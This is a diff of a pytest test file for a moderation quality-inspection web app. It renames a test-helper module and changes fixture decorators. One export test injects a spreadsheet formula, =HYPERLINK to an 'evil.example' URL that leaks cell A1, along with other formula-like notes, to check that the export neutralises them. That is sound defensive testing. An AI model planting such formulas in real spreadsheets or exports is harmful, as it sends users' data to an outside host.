@@ -16,20 +16,20 @@ import sqlalchemy as sa
 from app.extensions import db
 from app.inspections import services
 from app.models import Inspection, InspectionVersion, SampleItem
-from tests import inspecting
-from tests.conftest import TEST_PASSWORD
-from tests.factories import LabelFactory, UserFactory, VendorFactory
+from tests.builders import inspections
+from tests.builders.world import module_world
+from tests.factories import TEST_PASSWORD, LabelFactory, UserFactory, VendorFactory
 
 # World ----------------------------------------------------------------------------------
 
 
-@pytest.fixture
+@module_world
 def world():
     """ACME with a published listing scorecard, three decisions of March 2026 in an
     open contract sample assigned to Ines, and GLOBEX next door."""
     vendor = VendorFactory(code="ACME", name="Acme Moderation")
     other = VendorFactory(code="GLOBEX", name="Globex Outsourcing")
-    version = inspecting.scorecard("listing")
+    version = inspections.scorecard("listing")
     labels = [
         LabelFactory(code="LST-FAKE", name="Counterfeit", policy_area="listing"),
         LabelFactory(code="LST-PROHIB", name="Prohibited item", policy_area="listing"),
@@ -40,7 +40,7 @@ def world():
         role="qa_inspector", name="Ines Inspector", email="ines.inspector@qa.example"
     )
     decisions = [
-        inspecting.decision(
+        inspections.decision(
             vendor,
             labels=[labels[0], labels[1]],
             moderator_id="MOD-ALPHA",
@@ -51,12 +51,12 @@ def world():
             context={"title": "Cheap luxury watch", "seller": {"page": "https://shop.example/s/9"}},
             decided=datetime(2026, 3, 10, 9, 30, tzinfo=UTC),
         ),
-        inspecting.decision(vendor, decided=datetime(2026, 3, 11, 9, 0, tzinfo=UTC)),
-        inspecting.decision(
+        inspections.decision(vendor, decided=datetime(2026, 3, 11, 9, 0, tzinfo=UTC)),
+        inspections.decision(
             vendor, labels=[labels[2]], decided=datetime(2026, 3, 12, 9, 0, tzinfo=UTC)
         ),
     ]
-    sample = inspecting.sample_of(vendor, decisions, assignee=inspector)
+    sample = inspections.sample_of(vendor, decisions, assignee=inspector)
     db.session.commit()
     return {
         "vendor": vendor,
@@ -95,7 +95,7 @@ def verdict(world, decision, *, action="finalise_next", answers=None, **changes)
         "notes": "",
         "action": action,
     }
-    given = {**inspecting.all_yes(), **(answers or {})}
+    given = {**inspections.all_yes(), **(answers or {})}
     for q in questions(world):
         if given.get(q.key) is not None:
             data[f"answer_{q.id}"] = given[q.key]
@@ -480,7 +480,7 @@ def test_a_hostile_version_on_the_correction_form_is_refused_without_a_server_er
     client, login_as, world, version
 ):
     d = world["decisions"][0]
-    final = inspecting.inspect(d, world["inspector"])
+    final = inspections.inspect(d, world["inspector"])
     db.session.commit()
     login_as("qa_lead")
     data = verdict(
@@ -583,8 +583,8 @@ def test_vendor_users_and_admins_may_not_inspect(client, auth, login_as, world, 
     d = world["decisions"][0]
     client.post(f"/inspections/items/{world['items'][0].id}", data=verdict(world, d, action="save"))
     draft = inspection_of(d)
-    final = inspecting.inspect(world["decisions"][1], world["inspector"])
-    outside = inspecting.decision(world["vendor"])
+    final = inspections.inspect(world["decisions"][1], world["inspector"])
+    outside = inspections.decision(world["vendor"])
     db.session.commit()
     auth.logout()
     login_as(role, vendor=world["vendor"] if role.startswith("vendor") else None)
@@ -601,7 +601,7 @@ def test_vendor_users_and_admins_may_not_inspect(client, auth, login_as, world, 
 
 def test_a_lead_inspects_a_decision_outside_any_sample_as_targeted(client, login_as, world):
     lead = login_as("qa_lead")
-    outside = inspecting.decision(
+    outside = inspections.decision(
         world["vendor"], labels=[world["labels"][1]], moderator_id="MOD-OUT"
     )
     db.session.commit()
@@ -644,7 +644,7 @@ def test_a_decision_in_an_open_sample_is_inspected_from_its_item(client, login_a
 
 
 def test_an_inspector_may_not_hand_pick_a_decision(client, auth, world):
-    outside = inspecting.decision(world["vendor"])
+    outside = inspections.decision(world["vendor"])
     db.session.commit()
     auth.login(world["inspector"])
     assert client.get(f"/inspections/decisions/{outside.id}").status_code == 403
@@ -674,7 +674,7 @@ def test_unknown_items_and_decisions_are_not_found(client, login_as, world):
 
 
 def test_the_edit_page_of_a_final_inspection_leads_to_its_page(client, auth, world):
-    final = inspecting.inspect(world["decisions"][0], world["inspector"])
+    final = inspections.inspect(world["decisions"][0], world["inspector"])
     db.session.commit()
     auth.login(world["inspector"])
     response = client.get(f"/inspections/{final.id}/edit")
@@ -694,7 +694,7 @@ def test_the_edit_page_of_a_final_inspection_leads_to_its_page(client, auth, wor
 
 def test_a_lead_corrects_a_final_inspection_with_a_reason(client, login_as, world):
     d = world["decisions"][0]
-    final = inspecting.inspect(d, world["inspector"])
+    final = inspections.inspect(d, world["inspector"])
     db.session.commit()
     lead = login_as("qa_lead", name="Lena Lead")
     detail = _text(client.get(f"/inspections/{final.id}"))
@@ -749,7 +749,7 @@ def test_a_lead_corrects_a_final_inspection_with_a_reason(client, login_as, worl
 
 def test_a_correction_that_changes_nothing_is_refused(client, login_as, world):
     d = world["decisions"][0]
-    final = inspecting.inspect(d, world["inspector"])
+    final = inspections.inspect(d, world["inspector"])
     db.session.commit()
     login_as("qa_lead")
     response = client.post(
@@ -763,7 +763,7 @@ def test_a_correction_that_changes_nothing_is_refused(client, login_as, world):
 
 def test_inspectors_may_not_correct(client, auth, world):
     d = world["decisions"][0]
-    final = inspecting.inspect(d, world["inspector"])
+    final = inspections.inspect(d, world["inspector"])
     db.session.commit()
     auth.login(world["inspector"])
     assert client.get(f"/inspections/{final.id}/correct").status_code == 403
@@ -784,13 +784,13 @@ def test_inspectors_may_not_correct(client, auth, world):
 # What vendor users see ------------------------------------------------------------------------
 
 
-@pytest.fixture
+@module_world(on=world)
 def published(world):
     """ACME: two final inspections and a draft; GLOBEX: a final inspection."""
     inspector = world["inspector"]
     finals = [
-        inspecting.inspect(world["decisions"][0], inspector, notes="Well judged"),
-        inspecting.inspect(
+        inspections.inspect(world["decisions"][0], inspector, notes="Well judged"),
+        inspections.inspect(
             world["decisions"][1],
             inspector,
             expected="reject",
@@ -798,10 +798,10 @@ def published(world):
             severity="critical",
         ),
     ]
-    draft = inspecting.inspect(world["decisions"][2], inspector, finalise=False)
-    theirs_decision = inspecting.decision(world["other"], moderator_id="MOD-GLOBEX")
-    inspecting.sample_of(world["other"], [theirs_decision])
-    theirs = inspecting.inspect(theirs_decision, inspector)
+    draft = inspections.inspect(world["decisions"][2], inspector, finalise=False)
+    theirs_decision = inspections.decision(world["other"], moderator_id="MOD-GLOBEX")
+    inspections.sample_of(world["other"], [theirs_decision])
+    theirs = inspections.inspect(theirs_decision, inspector)
     db.session.commit()
     return {"finals": finals, "draft": draft, "theirs": theirs}
 
@@ -915,14 +915,14 @@ def test_qa_see_drafts_names_and_every_vendor(client, login_as, world, published
 # Filters of the list ----------------------------------------------------------------------------
 
 
-@pytest.fixture
+@module_world(on=world)
 def many(world):
     """A spread of ACME inspections to filter, and GLOBEX's, in March and April 2026."""
     vendor, other = world["vendor"], world["other"]
     fake, prohib, copy = world["labels"]
     inspector = world["inspector"]
     seller_label = world["seller_label"]
-    inspecting.scorecard("seller")
+    inspections.scorecard("seller")
     lead = UserFactory(role="qa_lead")
     march = datetime(2026, 3, 20, 10, 0, tzinfo=UTC)
     april = datetime(2026, 4, 2, 10, 0, tzinfo=UTC)
@@ -930,7 +930,7 @@ def many(world):
     def make(v, *, labels=(), sample="contract", when=march, area="listing", **kw):
         kw.setdefault("market", "PH")
         kw.setdefault("site", "Cebu")
-        return inspecting.decision(
+        return inspections.decision(
             v, labels=list(labels), decided=when, policy_area=area, **kw
         ), sample
 
@@ -951,7 +951,7 @@ def many(world):
         for purpose in ("contract", "targeted"):
             chosen = [d for d, s in rows.values() if d.vendor_id == v.id and s == purpose]
             if chosen:
-                inspecting.sample_of(v, chosen, purpose=purpose)
+                inspections.sample_of(v, chosen, purpose=purpose)
     verdicts = {
         "correct_reject": {},
         "correct_approve": {},
@@ -973,7 +973,7 @@ def many(world):
         "draft": {"finalise": False},
         "globex": {},
     }
-    made = {name: inspecting.inspect(rows[name][0], inspector, **verdicts[name]) for name in rows}
+    made = {name: inspections.inspect(rows[name][0], inspector, **verdicts[name]) for name in rows}
     db.session.commit()
     return {**made, "lead": lead}
 
@@ -1108,14 +1108,14 @@ def test_the_export_has_the_filtered_rows_and_neutralises_formulas(client, login
     d0, d1, d2 = world["decisions"]
     inspector = world["inspector"]
     hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-    inspecting.inspect(d0, inspector, notes=hostile)
-    inspecting.inspect(
+    inspections.inspect(d0, inspector, notes=hostile)
+    inspections.inspect(
         d1, inspector, notes="+SUM(1+1)", expected="reject", expected_labels=["LST-COPY"]
     )
-    inspecting.inspect(d2, inspector, notes="@cmd", finalise=False)
-    formula_moderator = inspecting.decision(world["vendor"], moderator_id="-2+3")
-    inspecting.sample_of(world["vendor"], [formula_moderator])
-    inspecting.inspect(formula_moderator, inspector, notes="plain words")
+    inspections.inspect(d2, inspector, notes="@cmd", finalise=False)
+    formula_moderator = inspections.decision(world["vendor"], moderator_id="-2+3")
+    inspections.sample_of(world["vendor"], [formula_moderator])
+    inspections.inspect(formula_moderator, inspector, notes="plain words")
     db.session.commit()
     login_as("qa_lead")
 
